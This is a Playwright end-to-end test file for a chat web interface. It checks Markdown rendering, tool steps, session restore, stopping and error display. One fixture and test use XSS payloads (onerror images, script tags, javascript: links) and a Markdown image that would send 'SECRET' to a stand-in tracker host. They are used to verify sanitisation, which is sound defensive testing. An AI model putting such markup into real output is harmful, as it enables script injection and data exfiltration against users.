"""The web chat end to end in headless Chromium (Debian's package) driven by Playwright.

One gateway (fake model on 127.0.0.1) and one browser serve the module; each test opens its own
logged-in tab, as a person would. What is asserted is what the page shows: rendered Markdown and
code blocks, hostile markup in an answer shown as text (and never run), tool steps as they happen,
the conversation back after a reload, the list of chats by title, one word when Stop is pressed,
and a model that refuses its key told as a configuration problem.
Screenshots land in test-artifacts/webchat/.

Outside CI the module skips when Playwright or Chromium is missing; with CI=true it must run.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import aiohttp
import pytest
import pytest_asyncio

from tests.conftest import ROOT, model_config
from tests.fakes.gateway_harness import TOKEN, api_section, start_gateway
from tests.fakes.model_server import FakeModelServer, fault, text, tool_calls
from tests.test_dashboard_browser import CHROMIUM, CHROMIUM_ARGS, require_browser

pytestmark = pytest.mark.asyncio(loop_scope="module")

ARTIFACTS = ROOT / "test-artifacts" / "webchat"
TIMEOUT_MS = 30_000  # the machine may be busy
MARKDOWN_ANSWER = """# Deploy plan

Run **all** the checks, then `make release`:

```python
print("<b>not bold</b>")
```

| step | who |
| --- | --- |
| tag | ci |
"""
HOSTILE_ANSWER = """Here you go:

<img src=x onerror="window.pwned='img'"> and <script>window.pwned='script'</script>

[click me](javascript:window.pwned='link') and ![tracker](https://tracker.example/p.png?d=SECRET)

<a href="javascript:window.pwned='a'">raw link</a>

```html
<img src=y onerror="window.pwned='code'">
```
"""


@dataclass
class Env:
    gateway: Any
    model: FakeModelServer
    browser: Any
    url: str


async def warm_up(gateway: Any, model: FakeModelServer) -> None:
    """One turn through the API first: the first turn imports LiteLLM, which on a busy machine takes
    longer than a page should be given to show an answer."""
    model.add(text("warm"), purpose="chat")
    async with aiohttp.ClientSession() as http, http.post(
            gateway.url + "v1/chat/completions", headers={"Authorization": f"Bearer {TOKEN}"},
            json={"model": "hermes", "messages": [{"role": "user", "content": "warm up"}]}) as response:
        assert response.status == 200, await response.text()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def env(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Env]:
    require_browser()
    from playwright.async_api import async_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    model = FakeModelServer()
    await model.start()
    home = tmp_path_factory.mktemp("webchat") / "home"
    gateway, _ = await start_gateway(home, model_config(model) + api_section(), platforms=())
    try:
        await warm_up(gateway, model)
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
            try:
                yield Env(gateway, model, browser, gateway.url.rstrip("/"))
            finally:
                await browser.close()
    finally:
        await gateway.stop()
        await model.stop()


@pytest_asyncio.fixture(loop_scope="module")
async def page(env: Env) -> AsyncIterator[Any]:
    """A fresh browser (its own storage: a new person) logged in through the form at /."""
    context = await env.browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(TIMEOUT_MS)
    tab = await context.new_page()
    tab.errors = []
    tab.on("pageerror", lambda error: tab.errors.append(str(error)))
    await tab.goto(env.url + "/")
    await tab.fill("#token", TOKEN)
    await tab.click("button[type=submit]")
    await tab.wait_for_selector("#text:enabled")
    yield tab
    await context.close()


async def send(tab: Any, message: str) -> None:
    await tab.fill("#text", message)
    await tab.press("#text", "Enter")


async def last_answer(tab: Any, containing: str) -> Any:
    """The newest answer bubble once it shows `containing` and the answer is complete."""
    answer = tab.locator(".msg.bot").last
    await answer.filter(has_text=containing).wait_for()
    await tab.wait_for_function("() => !document.body.classList.contains('busy')")
    return answer


async def shot(tab: Any, name: str) -> None:
    await tab.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


async def test_the_box_takes_a_message_only_once_enter_sends_it(env: Env) -> None:
    """On a slow link the page shows before its script runs; a message typed then was lost (Enter
    only added a line). The box is disabled until the script is there, then the same Enter sends."""
    import asyncio

    context = await env.browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    script_asked = asyncio.Event()
    release = asyncio.Event()

    async def slow_script(route: Any) -> None:
        script_asked.set()
        await release.wait()
        await route.continue_()

    try:
        await context.route("**/chat.js", slow_script)
        tab = await context.new_page()
        await tab.goto(env.url + "/")
        await tab.fill("#token", TOKEN)
        await tab.click("button[type=submit]", no_wait_after=True)
        await asyncio.wait_for(script_asked.wait(), TIMEOUT_MS / 1000)
        box = tab.locator("#text")
        await box.wait_for()
        assert await box.is_disabled() and await tab.locator("#send button").is_disabled()
        assert await box.get_attribute("placeholder") == "Loading…"
        release.set()
        await tab.wait_for_selector("#text:enabled")
        assert "Enter to send" in (await box.get_attribute("placeholder") or "")
        env.model.add(text("Here now."), purpose="chat")
        await send(tab, "Are you there?")
        await last_answer(tab, "Here now.")
        assert await tab.locator(".msg.user").all_inner_texts() == ["Are you there?"]
    finally:
        release.set()
        await context.close()


async def test_an_answer_in_markdown_is_rendered_with_its_code_block(env: Env, page: Any) -> None:
    env.model.add(text(MARKDOWN_ANSWER, word_delay=0.01), purpose="chat")
    await send(page, "How do I deploy?")
    answer = await last_answer(page, "make release")
    assert await answer.locator("h1").inner_text() == "Deploy plan"
    assert await answer.locator("strong").inner_text() == "all"
    assert await answer.locator("p code").inner_text() == "make release"
    code = answer.locator("pre code.language-python")
    assert (await code.inner_text()).strip() == 'print("<b>not bold</b>")'
    assert await code.locator("b").count() == 0
    assert await answer.locator("table td").all_inner_texts() == ["tag", "ci"]
    assert "```" not in await answer.inner_text() and "**" not in await answer.inner_text()
    await shot(page, "markdown")


async def test_markup_inside_markdown_is_shown_as_text_and_never_runs(env: Env, page: Any) -> None:
    env.model.add(text(HOSTILE_ANSWER), purpose="chat")
    await send(page, 'Show me <img src=z onerror="window.pwned=\'mine\'">')
    answer = await last_answer(page, "raw link")
    shown = await answer.inner_text()
    assert "<img src=x onerror=" in shown and "<script>window.pwned='script'</script>" in shown
    assert '<a href="javascript:' in shown and "[click me](javascript:" in shown
    assert '<img src=y onerror="window.pwned=\'code\'">' in await answer.locator("pre code").inner_text()
    log = page.locator("#log")
    assert await log.locator("img, script, iframe, [onerror]").count() == 0
    assert await log.locator("a[href^='javascript']").count() == 0
    tracker = answer.locator("a", has_text="tracker")  # an image is a link, so nothing loads by itself
    assert await tracker.get_attribute("href") == "https://tracker.example/p.png?d=SECRET"
    assert await tracker.get_attribute("rel") == "noopener noreferrer"
    assert '<img src=z onerror="window.pwned=\'mine\'">' in await page.locator(".msg.user").last.inner_text()
    assert await page.evaluate("() => window.pwned") is None
    assert page.errors == []
    await shot(page, "hostile")


async def test_tool_steps_show_while_the_agent_works(env: Env, page: Any) -> None:
    workspace_file = "notes.txt"
    env.model.add(tool_calls(("list_files", {"path": "."})),
                  tool_calls(("read_file", {"path": "missing.txt"})),
                  text(f"Your workspace has **{workspace_file}**.", delay=2.0), purpose="chat")
    await send(page, "What is in my workspace?")
    steps = page.locator(".msg.bot").last.locator("li.step")
    await steps.nth(1).filter(has_text="read_file").wait_for()
    # both steps are on screen while the answer is still being written, as in the terminal
    assert await page.evaluate("() => document.body.classList.contains('busy')")
    assert await steps.count() == 2
    assert (await steps.nth(0).inner_text()).startswith('⚙ list_files({"path": "."})')
    assert await steps.nth(0).get_attribute("class") == "step is-ok"
    assert await steps.nth(1).get_attribute("class") == "step is-error"  # no such file: the step failed
    await shot(page, "tool-steps")
    answer = await last_answer(page, "Your workspace has")
    assert await answer.locator(".body strong").inner_text() == workspace_file
    assert await answer.locator("li.step").count() == 2
    assert "read_file" in await answer.locator("li.step").nth(1).inner_text()


async def chat_titles_are(tab: Any, titles: list[str]) -> None:
    """The list of chats shows `titles`, in this order (waiting for the list to refresh)."""
    from playwright.async_api import expect

    await expect(tab.locator("#sessions button")).to_have_text(titles)


async def test_a_reload_restores_the_conversation_and_the_list_names_each_chat(env: Env, page: Any) -> None:
    first_question = "Why does the deploy fail on Fridays?"
    env.model.add(tool_calls(("list_files", {"path": "."})), text("Because `make freeze` runs at 17:00."),
                  text("A second chat, **fresh**."), purpose="chat")
    await page.locator(".welcome").wait_for()  # a new person is greeted, not shown a blank page
    await send(page, first_question + "\nIt worked on Thursday.")
    await last_answer(page, "make freeze")
    await page.locator("#sessions button.current", has_text=first_question).wait_for()

    await page.reload()
    await page.locator(".msg.user", has_text=first_question).wait_for()
    answer = page.locator(".msg.bot").last
    assert await answer.locator(".body code").inner_text() == "make freeze"
    assert await answer.locator("li.step").inner_text() == '⚙ list_files({"path": "."}) ✓'
    assert await page.locator(".welcome").count() == 0
    await chat_titles_are(page, [first_question])
    await shot(page, "restored")

    # "/new" typed (or the button) starts another chat; the first stays in the list
    await send(page, "/new")
    await page.locator(".welcome").wait_for()
    assert await page.locator(".msg.user, .msg.bot").count() == 0
    await chat_titles_are(page, ["New chat", first_question])
    await send(page, "Second question")
    await last_answer(page, "second chat")
    await page.locator("#sessions button", has_text="Second question").wait_for()
    await chat_titles_are(page, ["Second question", first_question])
    await page.locator("#sessions button", has_text=first_question).click()
    await page.locator(".msg.user", has_text=first_question).wait_for()
    assert await page.locator(".msg.user").count() == 1
    assert "second chat" not in await page.inner_text("#log")
    await page.reload()  # the chat shown last is the one a reload shows
    await page.locator(".msg.user", has_text=first_question).wait_for()

    # the dashboard lists the web chats by their titles, as web chats, and opens one under its title
    await page.goto(env.url + "/sessions")
    row = page.locator("tr.session", has_text=first_question)
    assert await row.locator("a").inner_text() == first_question
    assert await row.locator("td").nth(1).inner_text() == "web chat"
    assert await page.locator("tr.session", has_text="Second question").count() == 1
    await shot(page, "dashboard-sessions")
    await row.locator("a").click()
    assert await page.inner_text("h1") == first_question
    assert "web chat" in await page.inner_text("dl.facts")


async def test_stop_says_stopped_once(env: Env, page: Any) -> None:
    env.model.add(text(" ".join(f"word{i}" for i in range(200)), word_delay=0.05), purpose="chat")
    stop = page.locator("#stop")
    assert await stop.is_disabled()  # nothing to stop yet
    await send(page, "Write a long story")
    answer = page.locator(".msg.bot").last
    await answer.filter(has_text="word3").wait_for()
    await stop.click()
    await answer.filter(has_text="Stopped.").wait_for()
    await page.wait_for_function("() => !document.body.classList.contains('busy')")
    shown = await page.inner_text("#log")
    assert shown.count("Stopped.") == 1 and "Stopping" not in shown and "word199" not in shown
    assert await page.locator(".msg").count() == 2  # the question and its (stopped) answer, nothing else
    assert await stop.is_disabled()
    await shot(page, "stopped")


async def test_a_refused_key_is_an_error_bubble_that_names_a_configuration_problem(
        env: Env, page: Any) -> None:
    env.model.add(fault(401), purpose="chat")
    await send(page, "hello?")
    answer = page.locator(".msg.bot.error").last
    await answer.wait_for()
    await page.wait_for_function("() => !document.body.classList.contains('busy')")
    shown = await answer.locator(".body").evaluate("element => element.textContent")
    # the message itself first: no blank line before it
    assert shown.startswith("I can't answer: my model refused the request because of a configuration "
                            "problem"), repr(shown)
    assert "trying again will not help" in shown and "try again in a moment" not in shown
    await shot(page, "model-refused")
